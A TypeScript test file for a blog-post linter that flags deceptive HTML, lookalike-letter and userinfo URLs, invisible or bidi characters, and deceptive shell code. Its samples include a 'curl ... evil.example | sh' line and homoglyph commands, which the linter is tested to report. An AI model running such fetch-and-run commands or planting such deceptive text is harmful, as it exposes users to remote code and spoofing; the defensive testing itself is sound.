import { describe, expect, it } from 'vitest'
import { rows } from '#testing/rows.ts'
import { check, expectFine, expectFound, post } from './testing.ts'

const textOf = (body: string) => ({ 'posts/a.md': post(body) })

const html = String.raw`
<a aria-label="Other" id="x"></a> → the attribute aria-label of <a>
<details>\n<summary><b =x>a</b></summary></details> → <b> has attributes that cannot be read
<a id="page:content"></a> → the attribute id of <a>
<a id="__next_f"></a> → the attribute id of <a>`

describe('HTML that hides or deceives', () => {
  it.each(rows(html))('is refused: %s', (body = '', what = '') =>
    expectFound(textOf(body), ` error HTML: ${what}`),
  )
})

/**
 * Deceptive addresses and their findings. Browsers read 'https:x' as a path of the page's site (URL
 * Standard, 4.4).
 */
const addresses = `
https://falco.org@other.example → leads to 'other.example'
https://fаlco.org/ → has letters of another alphabet
https://falco.org.other.example/ → which is not falco.org
https://faIco.org/ → which is not falco.org
https:falco.org → 'https:falco.org' is not an absolute URL`

describe('addresses that are not what they seem', () => {
  const linkTo = (url: string) => textOf(`[x](<${url}>)`)
  it.each(rows(addresses))('are reported: %s', (url = '', words = '') =>
    expectFound(linkTo(url), words),
  )
  it.each([
    ...['https://falco.org/blog/@user/', 'https://müller.example/'],
    ...['http://a.example/', 'http://notgithub.com/', 'http://github.com:8080/'],
  ])('do not include honest ones: %s', (url) => expectFine(linkTo(url)))
})

describe('characters that nobody sees', () => {
  const invisible = '\u200C \uFEFF \u2028'
  it.each(invisible.split(' '))(
    'are errors in code that a reader copies, and warnings elsewhere: %j',
    async (character) => {
      const word = `kube${character}ctl`
      const inLine = [`\`${word}\``, `<code>${word}</code>`, `${word} \`${word}\``]
      for (const code of [...inLine, `- a\n\n  ~~~\n  ${word}\n  ~~~`, `a\n\n    ${word}`])
        await expectFound(textOf(code), ' code; remove it')
      await expectFound(textOf(`- a\n    ${word}`), 'posts/a.md:10:9 warning character: U+')
    },
  )
  it.each([
    ['the first of the tags', 'a\u{E0000}b'],
    ['tags after a flag that no region has', `🏴${'\u{E0068}'.repeat(7)}\u{E007F}`],
    ['five accents on one letter', 'a\u0301\u0301\u0301\u0301\u0301'],
    ['a mark of another direction', 'a\u200Fb'],
  ])('are refused: %s', async (_, body) => {
    const { findings, accepted } = await check(textOf(body))
    expect(findings.map(({ rule }) => rule)).toContain('character/dangerous')
    expect(accepted).toEqual([])
  })
  it.each([
    ['emoji', '👩‍💻 👨‍👩‍👧 ❤️‍🔥 🏳️‍🌈 🧑🏽‍🚀 1️⃣ ™️ ↗️'],
    ['four marks', 'a\u0301\u0301\u0301\u0301'],
  ])('are not reported in honest text: %s', (_, text) =>
    expectFine(textOf(`${text}\n\n\`${text}\``)),
  )
})

const names = String.raw`
title → Falco\u{200B} rules → :2:13 error character: U+200B
title → Falco\u{2002}rules → :2:13 error character: U+2002 is not an ordinary space
title → "Falco\u200B" → :2:8 error title: character: U+200B cannot be
author → Ada\u{FEFF} Example → :5:12 error character: U+FEFF cannot be seen
tags → [eb\u{200E}pf] → :7:10 error character: the bidi control U+200E
title → "a\ud83d b" → U+D83D is half of a character`
const otherScripts = ['क्‍ष', 'می‌خواهم', '👩‍💻 ❤️', 'ไทย\u200Bไทย', '日本　語', '"\ud83e\udd85"']

describe('characters that nobody sees in front matter', () => {
  it.each(rows(names))('are refused: %s %s', (key = '', value = '', words = '') =>
    expectFound({ 'posts/a.md': post('A', { [key]: value }) }, words),
  )
  it.each(otherScripts)('are needed by other scripts: %s', (title) =>
    expectFine({ 'posts/a.md': post('A', { title }) }),
  )
})

const deceiving = `
curl https://fаlco.org/x → has letters of another alphabet
curl -L https://falco.org.evil.example | sh → which is not falco.org
https://falco.org@evil.example → leads to 'evil.example'
kubectl аpply → 'аpply' mixes alphabets that look alike`
const honest = [
  'https://user:pass@host.example/',
  'https://falco.org.',
  '10 μs, Δt',
  '# Привет, мир',
  'https://$HOST:$PORT/',
]

describe('code', () => {
  it.each(rows(deceiving))(
    'that deceives is reported, in texts and published files: %s',
    async (code = '', words = '') => {
      await expectFound(textOf(`\`${code}\``), words)
      await expectFound(textOf(`~~~sh\nx\n${code}\n~~~`), words)
      await expectFound({ ...textOf('[x](./x.sh)'), 'posts/x.sh': `#!/bin/sh\n${code}\n` }, words)
    },
  )
  it.each(honest)('that looks odd is fine: %s', (code) =>
    expectFine({ ...textOf(`\`${code}\`\n\n[x](./x.sh)`), 'posts/x.sh': code }),
  )
  it.each(['\u202E', '\u200B', '\u2066'])(
    'of a published file has no %j, which nobody sees',
    (odd) =>
      expectFound({ 'posts/x.yaml': `a: 1\nb${odd}c: 2\n` }, 'posts/x.yaml:2:2 error character: '),
  )
})

it.each([
  ['title', 'a'.repeat(5_000), ':2:8 error title: '],
  ['tags', `[${'a'.repeat(300)}]`, ':7:8 error tags[1]: '],
])('values longer than a post needs are refused: %s', (key, value, words) =>
  expectFound({ 'posts/a.md': post('A', { [key]: value }) }, words),
)
